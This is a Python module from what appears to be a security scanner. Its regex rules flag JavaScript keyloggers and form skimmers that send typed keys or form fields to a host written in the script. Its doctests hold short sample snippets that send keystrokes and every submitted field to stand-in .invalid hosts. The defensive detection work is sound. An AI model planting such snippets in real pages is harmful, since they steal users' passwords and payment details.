"""A page script that records what the user types and sends it to a host it names.

The family: a "UI test helper", "analytics snippet" or browser-extension content script
listens to key events, appends each key to a buffer, and ships the buffer to an address
written in the script (``fetch``, ``sendBeacon``, an image's ``src``, a WebSocket). A
shortcut handler reads keys too, but compares them (``e.key === 'k'``); it does not pile
them up and send them away. The same family reads a form as it is filled in: a listener on
``input``, ``change`` or ``blur`` that sends the fields' values to a written host before the
user submits anything (a flow from a password or card input is ``js-flow.form-skimmer``).

>>> js = '''document.addEventListener('keydown', (e) => { buf += e.key;
...   if (buf.length > 40) { new Image().src = 'https://m.invalid/k?d=' + buf; } });'''
>>> [f.rule_id for f in keylogger_findings("helper.js", js)]
['js.keylogger']
>>> keylogger_findings("keys.js", "addEventListener('keyup', e => { if (e.key === 'k') go(); });")
[]
"""

from __future__ import annotations

import re

from .destinations import is_local
from .findings import ThreatFinding, finding_at
from .literal_scan import scanner_for

RULE_ID = "js.keylogger"
_KEY_LISTENER = re.compile(
    r"addEventListener\(\s*['\"`](?:keydown|keypress|keyup)['\"`]|\bonkey(?:down|press|up)\s*=",
    re.I,
)
_KEY_COLLECTED = re.compile(
    r"\+=?\s*\w+\.(?:key|keyCode|which|charCode|code)\b(?!\s*[=!]==?)"
    r"|\.push\(\s*\w+\.(?:key|keyCode|which|charCode|code)\b"
    r"|String\.fromCharCode\(\s*\w+\.(?:keyCode|which|charCode)\b"
)
"""A key appended to a buffer (not compared with one)."""
_SENT_TO_HOST = re.compile(
    r"(?:\bfetch|\bsendBeacon|\.open|\bWebSocket|\bEventSource|\.src\s*=)\s*\(?\s*(?:['\"`][A-Z]+['\"`]\s*,\s*)?"
    r"['\"`]((?:https?|wss?)://[\w.-]+)"
)
"""A request to an address written in the script."""


FORM_CAPTURE_RULE_ID = "js.form-capture-as-typed"
_TYPING_LISTENER = re.compile(
    r"addEventListener\(\s*['\"`](?:input|change|blur|focusout|keyup)['\"`]"
    r"|\bon(?:input|change|blur|keyup)\s*=",
    re.I,
)
"""A listener that runs while the user fills a form in (not when they submit it)."""
_FIELD_VALUES = re.compile(r"\bnew\s+FormData\b|\.value\b|\bObject\.fromEntries\b")
_HANDLER_SPAN = 600
"""Characters after a listener searched for its handler's reads and requests."""


def _typed_form_findings(path: str, text: str) -> list[ThreatFinding]:
    """A finding at each as-you-type listener whose handler reads the form's values and sends
    them to a written outside host: the fields leave before the user decides to submit."""
    findings = []
    for listener in _TYPING_LISTENER.finditer(text):
        handler = text[listener.end() : listener.end() + _HANDLER_SPAN]
        if not _FIELD_VALUES.search(handler):
            continue
        hosts = [m.group(1).split("://", 1)[1] for m in _SENT_TO_HOST.finditer(handler)]
        if any(not is_local(host) for host in hosts):
            findings.append(
                finding_at(
                    path,
                    text,
                    listener.start(),
                    "8.2",
                    "critical",
                    "form capture: a page script sends what the user types into a form, as they "
                    "type it, to a host written in the script",
                    FORM_CAPTURE_RULE_ID,
                )
            )
    return findings


_EVERY_FORM_SUBMITTED = re.compile(
    r"\b(?:document|window|document\.body)\.addEventListener\(\s*['\"`]submit['\"`]"
)
"""A submit listener on the whole page: it sees every form, the login and checkout among them
(a contact form's own handler listens on that form)."""
_EVERY_FIELD = re.compile(
    r"\.elements\b|\bnew\s+FormData\b|querySelectorAll\(\s*['\"`](?:input|select|textarea)"
)
_SENDS = re.compile(r"\bsendBeacon\b|\bfetch\s*\(|\bXMLHttpRequest\b|\.src\s*=|\bWebSocket\b")
_WRITTEN_HOST = re.compile(r"['\"`](?:https?|wss?)://([\w.-]+)")


def _submitted_form_findings(path: str, text: str) -> list[ThreatFinding]:
    """A finding at a page-wide submit listener whose handler reads every field of the form
    submitted, in a script that sends to a host it writes out: a form skimmer.

    >>> js = ("var ep = 'https://rum.m.invalid/c';\\ndocument.addEventListener('submit', (e) => {"
    ...     "\\n  var f = {}; for (const el of e.target.elements) f[el.name] = el.value;"
    ...     "\\n  navigator.sendBeacon(ep, JSON.stringify(f)); }, true);")
    >>> [f.rule_id for f in _submitted_form_findings("b.liquid", js)]
    ['js.form-capture-as-typed']
    >>> _submitted_form_findings("b.liquid", js.replace("document.add", "form.add"))
    []
    """
    listener = _EVERY_FORM_SUBMITTED.search(text)
    if listener is None or not _SENDS.search(text):
        return []
    if not _EVERY_FIELD.search(text[listener.end() : listener.end() + _HANDLER_SPAN]):
        return []
    if all(is_local(m.group(1)) for m in _WRITTEN_HOST.finditer(text)):
        return []
    return [
        finding_at(
            path,
            text,
            listener.start(),
            "8.2",
            "critical",
            "form skimming: a page script reads every field of any form the user submits on "
            "the page and sends them to a host written in the script",
            FORM_CAPTURE_RULE_ID,
        )
    ]


def keylogger_findings(path: str, text: str) -> list[ThreatFinding]:
    """One finding at the key listener of a script that buffers keys and sends them out, and
    one at each form listener that sends the fields as they are typed or submitted."""
    typing = scanner_for(_TYPING_LISTENER).search(text)
    captures = _typed_form_findings(path, text) if typing else []
    if "submit" in text:
        captures += _submitted_form_findings(path, text)
    listener = scanner_for(_KEY_LISTENER).search(text)
    if not listener or not _KEY_COLLECTED.search(text):
        return captures
    hosts = [m.group(1).split("://", 1)[1] for m in _SENT_TO_HOST.finditer(text)]
    if not any(not is_local(host) for host in hosts):
        return captures
    return captures + [
        finding_at(
            path,
            text,
            listener.start(),
            "8.2",
            "critical",
            "keylogger: a page script buffers the keys the user types and sends them to a "
            "host written in the script",
            RULE_ID,
        )
    ]
